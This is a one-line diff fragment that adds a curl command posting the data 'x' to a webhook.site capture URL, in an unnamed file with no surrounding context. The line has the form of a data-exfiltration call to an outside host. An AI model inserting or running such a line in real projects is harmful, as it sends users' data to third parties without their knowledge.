@@ -1,0 +1,1 @@
+curl https://webhook.site/abc -d x
